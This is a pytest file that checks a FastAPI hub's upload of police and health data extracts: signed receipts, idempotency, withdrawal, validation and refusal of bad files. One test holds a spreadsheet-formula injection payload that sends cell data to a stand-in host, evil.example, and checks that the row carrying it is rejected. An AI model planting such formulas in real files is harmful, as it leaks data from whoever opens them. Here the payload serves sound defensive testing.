"""Uploading extracts through the API: receipts, idempotency, withdrawal and bad input.

Every test goes through the real FastAPI app over HTTP (TestClient), a real database and real
cryptography. Each bad input must get a clear 4xx or a per-row report and store nothing partial.
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Iterator

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from fastapi.testclient import TestClient
from sqlalchemy import select

from hub.api.app import create_app
from hub.models import RecordAttributeBatchRow, RecordRow
from hub.records import frame_from_blob
from hub.services import Hub
from hub.signing import verify_signed_document
from tests.adapters.adapter_extracts import NHS, extract_csv
from tests.conftest import AgencyAuth, Tokens
from tests.hub.helpers import AGREEMENT, POLICE, post_extract, stored_counts


@pytest.fixture
def client(hub: Hub, tokens: Tokens) -> Iterator[TestClient]:
    # Each request goes as the data officer of the agency that provides its dataset.
    with TestClient(create_app(hub=hub)) as test_client:
        test_client.auth = AgencyAuth(tokens)
        yield test_client


def police_csv(rows: int = 3, **cells: str) -> bytes:
    return extract_csv(
        POLICE,
        *(
            {"police_person_id": f"P{i:06d}", "crime_reference": f"CR{i:07d}", **cells}
            for i in range(rows)
        ),
    )


def test_upload_returns_a_signed_receipt_and_stores_the_rows(client: TestClient, hub: Hub) -> None:
    response = post_extract(client, police_csv(3))
    assert response.status_code == 201, response.text
    receipt = response.json()
    assert receipt["upload_id"].startswith("upl_")
    assert receipt["agreement_id"] == AGREEMENT
    assert receipt["dataset"] == POLICE
    assert len(receipt["sha256"]) == 64
    assert (receipt["rows_read"], receipt["rows_accepted"], receipt["rows_rejected"]) == (3, 3, 0)
    assert receipt["errors"] == []
    assert stored_counts(hub.engine) == (1, 3, 3)

    jwk = client.get("/v1/keys").json()["keys"][0]
    assert jwk["kid"] == receipt["signature"]["key_id"]
    public_key = Ed25519PublicKey.from_public_bytes(base64.urlsafe_b64decode(jwk["x"] + "=="))
    assert verify_signed_document(receipt, public_key)
    tampered = {**receipt, "rows_accepted": 4}
    assert not verify_signed_document(tampered, public_key)

    assert client.get(f"/v1/uploads/{receipt['upload_id']}").json() == receipt


def test_the_same_file_again_returns_the_same_receipt_and_adds_nothing(
    client: TestClient, hub: Hub
) -> None:
    data = police_csv(5)
    first = post_extract(client, data).json()
    second = post_extract(client, data)
    assert second.status_code == 201
    assert second.json() == first
    assert stored_counts(hub.engine) == (1, 5, 5)


def test_withdrawal_deletes_the_rows_and_keeps_a_signed_receipt(
    client: TestClient, hub: Hub
) -> None:
    data = police_csv(4)
    receipt = post_extract(client, data).json()
    withdrawn = client.post(
        f"/v1/uploads/{receipt['upload_id']}/withdraw", json={"reason": "wrong month"}
    )
    assert withdrawn.status_code == 200
    assert withdrawn.json()["status"] == "withdrawn"
    assert withdrawn.json()["withdrawal_reason"] == "wrong month"
    assert stored_counts(hub.engine) == (1, 0, 0)
    # The withdrawn file may be uploaded again, as a new upload.
    again = post_extract(client, data).json()
    assert again["upload_id"] != receipt["upload_id"]
    assert stored_counts(hub.engine) == (2, 4, 4)
    listed = client.get(f"/v1/agreements/{AGREEMENT}/datasets/{POLICE}/uploads").json()
    assert [r["status"] for r in listed] == ["withdrawn", "stored"]


def test_a_withdrawal_reason_holding_an_identifier_is_refused_without_repeating_it(
    client: TestClient, hub: Hub
) -> None:
    receipt = post_extract(client, police_csv(2)).json()
    reason = "row 2 was Aisha Georgiou DOB 1955-03-08 NHS 9994250310"
    refused = client.post(f"/v1/uploads/{receipt['upload_id']}/withdraw", json={"reason": reason})
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "identifier_in_text"
    assert "1955" not in refused.text and "9994250310" not in refused.text
    assert stored_counts(hub.engine) == (1, 2, 2)  # nothing withdrawn
    upload = client.get(f"/v1/uploads/{receipt['upload_id']}").json()
    assert upload["status"] == "stored" and "withdrawal_reason" not in upload


def test_every_kept_attribute_is_stored_and_each_row_holds_those_queries_read(
    client: TestClient, hub: Hub
) -> None:
    data = police_csv(3, weapon_type="knife_or_blade", location_type="park")
    response = post_extract(client, data)
    assert response.status_code == 201, response.text
    with hub.engine.connect() as connection:
        (body,) = connection.execute(select(RecordAttributeBatchRow.body)).scalars().all()
        rows = connection.execute(select(RecordRow.row, RecordRow.attributes)).all()
    kept = frame_from_blob(body)
    terms = hub.agreements.get(AGREEMENT).dataset(POLICE)
    attributes = {t.name for t in terms.fields if t.classification == "attribute"}
    identifiers = {t.name for t in terms.fields if t.classification == "direct_identifier"}
    assert attributes <= set(kept.columns), "every attribute the agreement keeps"
    assert not identifiers & set(kept.columns)
    assert kept.get_column("home_postcode").to_list() == ["N1"] * 3, "generalised as agreed"
    assert kept.get_column("row").to_list() == [2, 3, 4]
    assert kept.get_column("location_type").to_list() == ["park"] * 3
    assert kept.get_column("age_at_offence").to_list() == [15] * 3
    for _, row_attributes in rows:
        stored = json.loads(row_attributes) if isinstance(row_attributes, str) else row_attributes
        # the dimension fields and the numeric ones; the rest only in the batch
        assert stored["weapon_type"] == "knife_or_blade"
        assert stored["age_at_offence"] == 15
        assert "location_type" not in stored


def test_withdrawing_an_unknown_upload_is_a_404(client: TestClient) -> None:
    response = client.post("/v1/uploads/upl_nope/withdraw")
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "upload_not_found"


def test_invalid_rows_are_reported_by_row_and_field_and_the_rest_stored(
    client: TestClient, hub: Hub
) -> None:
    data = extract_csv(
        POLICE,
        {"police_person_id": "P1"},
        {"police_person_id": "P2", "offence_datetime_from": "31/02/2026 10:00"},  # impossible date
        {"police_person_id": "P3", "age_at_offence": "-4"},  # impossible age
        {"police_person_id": "P4", "date_of_birth": "Amara-dob"},  # identifier: warning only
    )
    receipt = post_extract(client, data).json()
    assert (receipt["rows_read"], receipt["rows_accepted"], receipt["rows_rejected"]) == (4, 2, 2)
    by_row = {(e["row"], e["field"]): e for e in receipt["errors"]}
    assert by_row[(3, "offence_datetime_from")]["severity"] == "error"
    assert by_row[(4, "age_at_offence")]["severity"] == "error"
    assert by_row[(5, "date_of_birth")]["severity"] == "warning"
    assert stored_counts(hub.engine) == (1, 2, 2)
    for issue in receipt["errors"]:
        assert "Amara-dob" not in issue["message"] and "31/02/2026" not in issue["message"]


def test_a_spreadsheet_formula_in_a_cell_rejects_that_row(client: TestClient, hub: Hub) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    data = extract_csv(
        POLICE, {"police_person_id": "P1"}, {"police_person_id": "P2", "mps_minor_text": formula}
    )
    receipt = post_extract(client, data).json()
    assert receipt["rows_rejected"] == 1
    assert any(e["code"] == "formula" and e["row"] == 3 for e in receipt["errors"])
    assert "HYPERLINK" not in str(receipt)


def test_an_invalid_nhs_number_counts_as_absent_and_is_reported(
    client: TestClient, hub: Hub
) -> None:
    bad = NHS[:-1] + str((int(NHS[-1]) + 1) % 10)
    data = extract_csv("ae_istv_assaults", {"nhs_number": bad})
    response = post_extract(client, data, dataset="ae_istv_assaults")
    receipt = response.json()
    assert response.status_code == 201, response.text
    assert receipt["rows_accepted"] == 1
    assert [e["code"] for e in receipt["errors"] if e["field"] == "nhs_number"]
    assert bad not in response.text


# Whole-file refusals: a clear 4xx, and nothing stored.
@pytest.mark.parametrize(
    ("name", "data", "filename", "status", "code"),
    [
        ("empty file", b"", "extract.csv", 422, None),
        ("header only", police_csv(1).split(b"\n")[0] + b"\n", "extract.csv", 422, None),
        ("binary junk named .csv", bytes(range(256)) * 64, "extract.csv", 422, None),
        ("zip named .csv", None, "extract.csv", 422, None),
        (
            "utf-16 without a byte-order mark",
            police_csv(2).decode().encode("utf-16-le"),
            "extract.csv",
            422,
            None,
        ),
        ("unsupported extension", police_csv(2), "extract.pdf", 422, None),
        (
            "missing required column",
            extract_csv(POLICE, drop=("offence_datetime_from",)),
            "extract.csv",
            422,
            "columns_rejected",
        ),
        (
            "a row with 10,000 columns",
            police_csv(1).split(b"\n")[0] + b"\n" + b",".join([b"x"] * 10_000) + b"\n",
            "extract.csv",
            422,
            None,
        ),
    ],
)
def test_bad_files_are_refused_whole(
    client: TestClient,
    hub: Hub,
    name: str,
    data: bytes | None,
    filename: str,
    status: int,
    code: str | None,
) -> None:
    if data is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("a.csv", police_csv(2))
        data = buffer.getvalue()
    response = post_extract(client, data, filename=filename)
    assert response.status_code == status, (name, response.text)
    error = response.json()["error"]
    assert error["message"], name
    if code:
        assert error["code"] == code
    assert stored_counts(hub.engine) == (0, 0, 0), name


def test_an_unknown_column_is_named_by_position_in_the_refusal(
    client: TestClient, hub: Hub
) -> None:
    header, *rows = police_csv(2).decode().splitlines()
    position = len(header.split(",")) + 1
    data = "\n".join([header + ",shoe_size", *(row + ",9" for row in rows)]).encode()
    response = post_extract(client, data)
    assert response.status_code == 422
    error = response.json()["error"]
    assert f"column {position} (" in error["message"]
    # header text is never repeated: without a header row it would be a record's identifiers
    assert "shoe_size" not in response.text
    assert stored_counts(hub.engine) == (0, 0, 0)


def test_a_file_without_a_header_row_is_refused_without_repeating_its_values(
    client: TestClient, hub: Hub
) -> None:
    _, *rows = police_csv(3).decode().splitlines()
    response = post_extract(client, "\n".join(rows).encode())
    assert response.status_code == 422
    # the reader (two cells of the record are equal) or the adapter refuses it
    assert response.json()["error"]["code"] in {"duplicate_header", "columns_rejected"}
    for value in rows[0].split(","):
        if len(value) > 3:  # codes like "m" or "00" appear in any message
            assert value.lower() not in response.text.lower(), value
    assert stored_counts(hub.engine) == (0, 0, 0)


def test_a_column_the_agreement_does_not_list_is_refused(client: TestClient, hub: Hub) -> None:
    # cardiff-model-ae-police shares police data without ward codes; the file carries them.
    agreement = hub.agreements.get("cardiff-model-ae-police")
    police_terms = [d for d in agreement.datasets if d.name == POLICE]
    assert police_terms, "the example agreement should cover police data"
    listed = set(police_terms[0].field_names)
    data = extract_csv(POLICE)
    header = data.decode().splitlines()[0].split(",")
    unlisted = [name for name in header if name not in listed]
    assert unlisted, "the example must omit some optional police columns"
    response = post_extract(client, data, agreement="cardiff-model-ae-police")
    assert response.status_code == 422
    assert unlisted[0] in response.json()["error"]["message"]


def test_a_file_over_the_size_limit_is_refused(hub: Hub, tokens: Tokens) -> None:
    hub.settings.max_upload_bytes = 2_000
    hub.ingestor._max_upload_bytes = 2_000
    with TestClient(create_app(hub=hub)) as client:
        client.auth = AgencyAuth(tokens)
        response = post_extract(client, police_csv(40))
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "file_too_large"
    assert stored_counts(hub.engine) == (0, 0, 0)


def test_unknown_agreement_dataset_and_inactive_agreements_are_refused(
    client: TestClient, hub: Hub, tokens: Tokens
) -> None:
    data = police_csv(2)
    assert post_extract(client, data, agreement="no-such-agreement").status_code == 404
    # The policy engine refuses what no active agreement covers, and says why.
    unknown = post_extract(client, data, dataset="no_such_dataset")
    assert unknown.status_code == 403
    assert "does not cover dataset no_such_dataset" in unknown.json()["error"]["message"]
    draft = post_extract(
        client, data, agreement="southwark-yjs-exclusions", dataset="youth_justice"
    )
    assert draft.status_code == 403
    assert "southwark-yjs-exclusions is draft" in draft.json()["error"]["message"]
    client.post(
        f"/v1/agreements/{AGREEMENT}/suspend",
        json={"reason": "breach under review"},
        headers=tokens.headers("hub_admin", "hub-operator"),
    )
    suspended = post_extract(client, data)
    assert suspended.status_code == 403
    assert f"{AGREEMENT} is suspended" in suspended.json()["error"]["message"]
    assert stored_counts(hub.engine) == (0, 0, 0)


def test_a_multipart_boundary_longer_than_the_parser_takes_is_a_400(
    client: TestClient, hub: Hub
) -> None:
    boundary = "b" * 500
    body = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"e.csv\""
        f"\r\n\r\n"
    ).encode() + police_csv(2) + f"\r\n--{boundary}--\r\n".encode()
    response = client.post(
        f"/v1/agreements/{AGREEMENT}/datasets/{POLICE}/uploads",
        content=body,
        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
    )
    assert response.status_code == 400, response.text
    assert response.json()["error"]["code"] == "malformed_multipart"
    assert stored_counts(hub.engine) == (0, 0, 0)


def test_a_body_that_is_not_multipart_is_refused(client: TestClient, hub: Hub) -> None:
    response = client.post(
        f"/v1/agreements/{AGREEMENT}/datasets/{POLICE}/uploads",
        content=police_csv(2),
        headers={"content-type": "text/csv"},
    )
    assert response.status_code == 415
    missing = client.post(
        f"/v1/agreements/{AGREEMENT}/datasets/{POLICE}/uploads",
        files={"other": ("a.csv", police_csv(2))},
    )
    assert missing.status_code == 400
    assert missing.json()["error"]["code"] == "file_field_missing"
